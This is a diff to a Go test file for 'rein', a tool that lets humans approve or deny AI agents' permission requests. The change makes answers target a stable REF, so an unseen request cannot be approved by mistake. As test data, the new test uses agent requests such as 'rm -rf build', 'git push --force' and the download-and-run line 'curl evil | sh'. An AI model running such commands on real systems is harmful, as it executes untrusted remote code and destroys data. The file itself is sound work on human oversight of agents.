@@ -4,16 +4,18 @@ import (
 	"context"
 	"database/sql"
 	"encoding/json"
-	"github.com/rein-ai/rein/server/app"
+	"fmt"
 	"path/filepath"
 	"regexp"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	_ "modernc.org/sqlite"
 
 	"github.com/rein-ai/rein/protocol"
+	"github.com/rein-ai/rein/server/app"
 	"github.com/rein-ai/rein/server/client"
 )
 
@@ -48,33 +50,33 @@ func TestInbox(t *testing.T) {
 	waitFor(t, &out, "+ s3/perm-a: run ls")
 
 	list := mustRein(t, s.URL(), "inbox")
-	for _, want := range []string{"#  SESSION  REQUEST  WAITING  TOOL  TITLE     OPTIONS", "1  s1       perm-a   1m       bash  run make  always(allow_always) yes(allow_once) no(reject_once)", "3  s3       perm-a"} {
+	for _, want := range []string{"REF      SESSION  REQUEST  WAITING  TOOL  TITLE     OPTIONS", "3c441f0  s1       perm-a   1m       bash  run make  always(allow_always) yes(allow_once) no(reject_once)", "65e4d3c  s3       perm-a"} {
 		if !strings.Contains(list, want) {
 			t.Fatalf("inbox\n%s\nlacks %q", list, want)
 		}
 	}
-	if r := rein(t, s.URL(), "inbox", "approve", "1", "maybe"); r.code != 1 || !strings.Contains(r.stderr, `has no option "maybe" (options: always, yes, no)`) {
+	if r := rein(t, s.URL(), "inbox", "approve", "3c441f0", "maybe"); r.code != 1 || !strings.Contains(r.stderr, `has no option "maybe" (options: always, yes, no)`) {
 		t.Fatalf("approve with an option the request lacks: %+v", r)
 	}
-	// By number, the once option by default.
-	if got := mustRein(t, s.URL(), "inbox", "approve", "2"); got != "approved s2/perm-b with option yes (command 1)\n" {
-		t.Fatalf("approve 2: %q", got)
+	// By REF, the once option by default.
+	if got := mustRein(t, s.URL(), "inbox", "approve", "0a42c3c"); got != "approved 0a42c3c s2/perm-b \"run rm\" with option yes (command 1)\n" {
+		t.Fatalf("approve 0a42c3c: %q", got)
 	}
 	if c := next[1](); c.RequestID != "perm-b" || c.OptionID != "yes" {
 		t.Fatalf("s2 got %+v", c)
 	}
 	// By request id: ambiguous, then qualified.
 	r := rein(t, s.URL(), "inbox", "deny", "perm-a")
-	if r.code != 1 || !strings.Contains(r.stderr, "several sessions; name one of: s1/perm-a, s3/perm-a") {
+	if r.code != 1 || !strings.Contains(r.stderr, `"perm-a" names several pending requests; name one by its REF: 3c441f0 (s1/perm-a), 65e4d3c (s3/perm-a)`) {
 		t.Fatalf("ambiguous deny: %+v", r)
 	}
-	if got := mustRein(t, s.URL(), "inbox", "deny", "s3/perm-a"); got != "denied s3/perm-a with option no (command 1)\n" {
+	if got := mustRein(t, s.URL(), "inbox", "deny", "s3/perm-a"); got != "denied 65e4d3c s3/perm-a \"run ls\" with option no (command 1)\n" {
 		t.Fatalf("deny s3/perm-a: %q", got)
 	}
 	if c := next[2](); c.RequestID != "perm-a" || c.OptionID != "no" {
 		t.Fatalf("s3 got %+v", c)
 	}
-	if got := mustRein(t, s.URL(), "inbox", "approve", "s1/perm-a", "always"); got != "approved s1/perm-a with option always (command 1)\n" {
+	if got := mustRein(t, s.URL(), "inbox", "approve", "s1/perm-a", "always"); got != "approved 3c441f0 s1/perm-a \"run make\" with option always (command 1)\n" {
 		t.Fatalf("approve with option: %q", got)
 	}
 	next[0]()
@@ -83,10 +85,10 @@ func TestInbox(t *testing.T) {
 		stderr string
 		code   int
 	}{
-		{[]string{"inbox", "approve", "9"}, "the inbox has no request 9 (it holds 3)", 1},
-		{[]string{"inbox", "-p", "nope", "approve", "1"}, "the inbox has no request 1 (it holds 0)", 1},
-		{[]string{"inbox", "approve", "1", "-p", "nope"}, "the inbox has no request 1 (it holds 0)", 1},
-		{[]string{"inbox", "approve"}, "usage: rein inbox approve N|REQUEST [OPTION]\n", 2},
+		{[]string{"inbox", "approve", "9"}, "not by a number: the list shifts as requests end, and 9 may not be the request you read", 2},
+		{[]string{"inbox", "-p", "nope", "approve", "3c441f0"}, `no pending request "3c441f0" in the inbox`, 1},
+		{[]string{"inbox", "approve", "3c441f0", "-p", "nope"}, `no pending request "3c441f0" in the inbox`, 1},
+		{[]string{"inbox", "approve"}, "usage: rein inbox approve REF|REQUEST [OPTION]\n", 2},
 		{[]string{"inbox", "approve", "perm-z"}, `no pending request "perm-z" in the inbox`, 1},
 		{[]string{"inbox", "maybe", "1"}, `unknown command "inbox maybe"; inbox commands: approve, deny`, 2},
 		{[]string{"inbox", "deny", "1", "no"}, "usage: rein inbox", 2},
@@ -105,7 +107,7 @@ func TestInbox(t *testing.T) {
 	postEvents(t, s, "s3", toks[2], `[{"type":"permission_resolved","id":"perm-a","outcome":"selected","optionId":"no","agentSeq":4}]`)
 	waitFor(t, &out, "- s2/perm-b: approved by client")
 	waitFor(t, &out, "- s3/perm-a: denied by client")
-	if got := mustRein(t, s.URL(), "inbox"); !strings.Contains(got, "1  s1") || strings.Contains(got, "s2") {
+	if got := mustRein(t, s.URL(), "inbox"); !strings.Contains(got, "3c441f0  s1") || strings.Contains(got, "s2") {
 		t.Fatalf("inbox after answers:\n%s", got)
 	}
 	cancel()
@@ -212,12 +214,11 @@ func TestInboxFollowJSON(t *testing.T) {
 	}
 }
 
-// rein inbox --follow numbers the requests as rein inbox does, which is
-// what rein inbox approve N takes: oldest first, then by session and
-// request id. Numbered in arrival order instead, two requests of the same
-// millisecond (one batch of an agent whose ids are not in order) showed
-// swapped, and "approve 1" as read off the follow answered the other.
-func TestInboxFollowNumbersAsInbox(t *testing.T) {
+// rein inbox --follow orders the requests as rein inbox does: oldest
+// first, then by session and request id. In arrival order instead, two
+// requests of the same millisecond (one batch of an agent whose ids are
+// not in order) showed swapped.
+func TestInboxFollowOrdersAsInbox(t *testing.T) {
 	s := startServer(t, app.Options{Now: func() time.Time { return testNow }})
 	tok := createSession(t, s, "s1")
 	ctx, cancel := context.WithCancel(context.Background())
@@ -230,7 +231,7 @@ func TestInboxFollowNumbersAsInbox(t *testing.T) {
 		{"type":"permission_requested","id":"perm-b","title":"run b","options":[{"id":"yes","name":"Yes","kind":"allow_once"}]},
 		{"type":"permission_requested","id":"perm-a","title":"run a","options":[{"id":"yes","name":"Yes","kind":"allow_once"}]}]`)
 	list := mustRein(t, s.URL(), "inbox")
-	if !strings.Contains(list, "1  s1       perm-a") {
+	if !strings.Contains(list, "3c441f0  s1       perm-a") {
 		t.Fatalf("rein inbox:\n%s", list)
 	}
 	waitFor(t, &out, "+ s1/perm-a: run a\n")
@@ -278,15 +279,15 @@ func TestInboxShowsAnswered(t *testing.T) {
 	waitFor(t, &out, "~ s1/perm-a: answered yes by client (command 1), waiting for the agent\n")
 	waitFor(t, &jsonOut, `"event":"approval_answered"`)
 
-	const row = "1  s1       perm-a   1m       bash  run make  answered: yes (command 1), waiting for the agent"
+	const row = "3c441f0  s1       perm-a   1m       bash  run make  answered: yes (command 1), waiting for the agent"
 	list := mustRein(t, s.URL(), "inbox")
-	if !strings.Contains(list, row+"\n") || !strings.Contains(list, "2  s1       perm-b   1m       -     run b     yes(allow_once)") {
-		t.Fatalf("rein inbox\n%s\nwant row 1 answered:\n%s", list, row)
+	if !strings.Contains(list, row+"\n") || !strings.Contains(list, "4fb3ca8  s1       perm-b   1m       -     run b     yes(allow_once)") {
+		t.Fatalf("rein inbox\n%s\nwant s1/perm-a answered:\n%s", list, row)
 	}
 	if !strings.HasSuffix(out.String(), list) {
 		t.Errorf("rein inbox --follow printed\n%s\nwant it to end with the table of rein inbox\n%s", out.String(), list)
 	}
-	for _, args := range [][]string{{"inbox", "deny", "1"}, {"inbox", "approve", "s1/perm-a"}, {"inbox", "approve", "perm-a", "always"}} {
+	for _, args := range [][]string{{"inbox", "deny", "3c441f0"}, {"inbox", "approve", "s1/perm-a"}, {"inbox", "approve", "perm-a", "always"}} {
 		r := rein(t, s.URL(), args...)
 		if want := "rein: request s1/perm-a was answered already with option yes (command 1, by client): it waits for its agent to take that answer; nothing sent\n"; r.code != 1 || r.stderr != want || r.stdout != "" {
 			t.Errorf("rein %v: %+v; want exit 1 and %q", args, r, want)
@@ -297,10 +298,10 @@ func TestInboxShowsAnswered(t *testing.T) {
 		t.Fatal(err)
 	}
 	waitFor(t, &out, "~ s1/perm-b: dismissed by client (command 2), waiting for the agent\n")
-	if list := mustRein(t, s.URL(), "inbox"); !strings.Contains(list, "2  s1       perm-b   1m       -     run b     answered: dismissed (command 2), waiting for the agent\n") {
+	if list := mustRein(t, s.URL(), "inbox"); !strings.Contains(list, "4fb3ca8  s1       perm-b   1m       -     run b     answered: dismissed (command 2), waiting for the agent\n") {
 		t.Fatalf("rein inbox after the dismissal:\n%s", list)
 	}
-	if r := rein(t, s.URL(), "inbox", "approve", "2"); r.code != 1 || !strings.Contains(r.stderr, "request s1/perm-b was dismissed already (command 2, by client)") {
+	if r := rein(t, s.URL(), "inbox", "approve", "4fb3ca8"); r.code != 1 || !strings.Contains(r.stderr, "request s1/perm-b was dismissed already (command 2, by client)") {
 		t.Errorf("approve a dismissed request: %+v", r)
 	}
 	// Nothing more was sent.
@@ -324,4 +325,93 @@ func TestInboxShowsAnswered(t *testing.T) {
 	if a := answered.Data.Answer; a == nil || a.CommandID != 1 || a.OptionID != "yes" || a.AnsweredBy != "client" {
 		t.Errorf("--follow --json approval_answered data %+v; want the approval with its answer", answered.Data)
 	}
+}
+
+// rein inbox approve/deny answer the request the user read, or none. The
+// inbox used to be numbered by place in the list, and "approve 1" picked
+// whatever was first when it ran: once the request the user had read as 1
+// ("rm -rf build") ended (its turn aborted, someone else answered), 1 was
+// the next one ("git push --force"), approved unseen. The ids do not do
+// either: an agent names a request with an id it used before once that
+// one is resolved. Now each request has a REF (rein inbox shows it) that
+// another request never has, a number is refused, and what was answered
+// is printed.
+func TestInboxAnswersOnlyTheRequestRead(t *testing.T) {
+	var tick atomic.Int64 // seconds past testNow: each batch is stored at its own time
+	s := startServer(t, app.Options{Now: func() time.Time { return testNow.Add(time.Duration(tick.Load()) * time.Second) }})
+	tok1, tok2 := createSession(t, s, "s1"), createSession(t, s, "s2")
+	sandbox(t, s, "s1", tok1)
+	next2 := sandbox(t, s, "s2", tok2)
+	const ask = `{"type":"permission_requested","id":"perm-1","title":%q,"options":[{"id":"yes","name":"Yes","kind":"allow_once"},{"id":"no","name":"No","kind":"reject_once"}]}`
+	postEvents(t, s, "s1", tok1, `[{"type":"turn_started","turnId":"t1","source":"user"},`+fmt.Sprintf(ask, "rm -rf build")+`]`)
+	tick.Add(1)
+	postEvents(t, s, "s2", tok2, `[`+fmt.Sprintf(ask, "git push --force")+`]`)
+
+	list := mustRein(t, s.URL(), "inbox")
+	refRm, refPush := inboxRef(t, list, "rm -rf build"), inboxRef(t, list, "git push --force")
+	// The request read first ends before the user answers it.
+	tick.Add(1)
+	postEvents(t, s, "s1", tok1, `[{"type":"permission_resolved","id":"perm-1","outcome":"cancelled"},{"type":"turn_completed","turnId":"t1","stopReason":"cancelled"}]`)
+
+	r := rein(t, s.URL(), "inbox", "approve", "1")
+	if want := "rein: rein inbox answers a request by the REF rein inbox shows (or SESSION/REQUEST), not by a number: the list shifts as requests end, and 1 may not be the request you read\n"; r.code != 2 || r.stderr != want || r.stdout != "" {
+		t.Errorf("approve 1 after the first request ended: %+v; want exit 2 and %q", r, want)
+	}
+	r = rein(t, s.URL(), "inbox", "approve", refRm)
+	if want := fmt.Sprintf("rein: no pending request %q in the inbox: answered or withdrawn since it was listed? rein inbox shows what waits now\n", refRm); r.code != 1 || r.stderr != want {
+		t.Errorf("approve %s, ended: %+v; want exit 1 and %q", refRm, r, want)
+	}
+	// The agent asks again, another thing under the same id: the REF
+	// the user read still names the request that ended.
+	tick.Add(1)
+	postEvents(t, s, "s1", tok1, `[{"type":"turn_started","turnId":"t2","source":"user"},`+fmt.Sprintf(ask, "curl evil | sh")+`]`)
+	again := mustRein(t, s.URL(), "inbox")
+	refAgain := inboxRef(t, again, "curl evil | sh")
+	if refAgain == refRm {
+		t.Fatalf("the new request perm-1 of s1 has the REF %s of the one that ended:\n%s", refRm, again)
+	}
+	if r := rein(t, s.URL(), "inbox", "deny", refRm); r.code != 1 || !strings.Contains(r.stderr, "no pending request") {
+		t.Errorf("deny %s, ended, its id used again: %+v", refRm, r)
+	}
+	cl, err := client.New(s.URL(), testToken)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, id := range []string{"s1", "s2"} {
+		if rec, err := cl.Session(context.Background(), id); err != nil || rec.PendingCommands != 0 {
+			t.Fatalf("session %s: %+v (%v); want no command sent", id, rec, err)
+		}
+	}
+	// By its REF, and rein says what it answered.
+	if got, want := mustRein(t, s.URL(), "inbox", "approve", refPush), fmt.Sprintf("approved %s s2/perm-1 \"git push --force\" with option yes (command 1)\n", refPush); got != want {
+		t.Errorf("approve %s: %q; want %q", refPush, got, want)
+	}
+	if c := next2(); c.RequestID != "perm-1" || c.OptionID != "yes" {
+		t.Errorf("s2 got %+v", c)
+	}
+	// rein inbox --json carries the REF, for scripts.
+	for _, l := range strings.Split(strings.TrimSpace(mustRein(t, s.URL(), "inbox", "--json")), "\n") {
+		var p struct {
+			Ref   string `json:"ref"`
+			Title string `json:"title"`
+		}
+		if err := json.Unmarshal([]byte(l), &p); err != nil {
+			t.Fatal(err)
+		}
+		if want := map[string]string{"git push --force": refPush, "curl evil | sh": refAgain}[p.Title]; p.Ref != want {
+			t.Errorf("rein inbox --json: %s; want ref %q", l, want)
+		}
+	}
+}
+
+// inboxRef is the REF of the row titled title in rein inbox's table.
+func inboxRef(t *testing.T, table, title string) string {
+	t.Helper()
+	for _, l := range strings.Split(table, "\n") {
+		if strings.Contains(l, "  "+title+"  ") {
+			return strings.Fields(l)[0]
+		}
+	}
+	t.Fatalf("rein inbox has no row %q:\n%s", title, table)
+	return ""
 }
